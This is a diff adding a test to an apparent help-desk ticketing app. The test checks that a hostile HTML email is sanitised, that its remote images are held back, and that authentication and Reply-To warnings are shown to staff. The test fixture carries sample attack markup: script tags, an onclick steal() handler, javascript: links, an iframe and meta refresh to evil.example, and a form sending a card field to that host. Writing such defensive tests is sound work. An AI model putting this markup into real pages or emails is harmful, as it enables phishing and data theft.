@@ -157,3 +157,53 @@ def test_a_locked_database_answers_tempfail(app, runner, mailbox):
         blocker.close()
     assert result.exit_code == 75 and "try again later" in result.output
     assert receive(runner, mail(message_id="<locked@x.example>"))["outcome"] == "new_ticket"
+
+
+HOSTILE_HTML = b"""From: Rose <rose@example.com>
+To: support@shop.example
+Subject: Photo of the damage
+Message-ID: <html1@mail.example.com>
+Authentication-Results: mx.shop.example; spf=fail smtp.mailfrom=example.com; dkim=none
+Reply-To: other@elsewhere.example
+MIME-Version: 1.0
+Content-Type: multipart/related; boundary="b1"
+
+--b1
+Content-Type: text/html; charset=utf-8
+
+<html><head><style>@import url(https://evil.example/x.css);</style><meta http-equiv="refresh" content="0;url=https://evil.example"></head>
+<body><p onclick="steal()">The mug is broken <a href="javascript:alert(1)">see</a></p>
+<img src="https://tracker.example/pixel.gif" width="1"><img src="cid:photo1@mail"><script>alert(1)</script>
+<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="card"></form></body></html>
+--b1
+Content-Type: image/png; name="broken.png"
+Content-ID: <photo1@mail>
+Content-Disposition: inline; filename="broken.png"
+Content-Transfer-Encoding: base64
+
+iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
+--b1--
+"""
+
+
+def test_hostile_html_is_sanitised_remote_images_held_and_the_agent_sees_the_flags(app, client, login, runner, mailbox):
+    outcome = receive(runner, HOSTILE_HTML)
+    data = show(runner, outcome["ticket"])
+    [message] = data["messages"]
+    html = message["body_html"]
+    for forbidden in ("<script", "onclick", "javascript:", "<iframe", "<form", "<meta", "evil.example/x.css",
+                      ' src="https://tracker.example'):
+        assert forbidden not in html
+    assert 'data-remote-src="https://tracker.example/pixel.gif"' in html
+    assert message["attachments"] == [{"filename": "broken.png", "content_type": "image/png", "size": 70,
+                                       "content_id": "photo1@mail", "inline": True}]
+    assert data["flags"] == ["auth_failed", "reply_to_differs"]
+
+    login(make_agent(scope="all").email)
+    page = client.get(f"/staff/tickets/{outcome['ticket']}").get_data(as_text=True)
+    assert "Authentication failed" in page and "Reply-To (other@elsewhere.example) differs" in page
+    assert "Load remote images" in page and ' src="https://tracker.example' not in page
+    assert f"/staff/tickets/{outcome['ticket']}/files/" in page  # the inline image points at our attachment
+    original = client.get(page.split("Show original")[0].rsplit('href="', 1)[1].split('"')[0])
+    assert original.status_code == 200 and b"onclick=\"steal()\"" in original.data
+    assert original.headers["Content-Type"].startswith("text/plain")
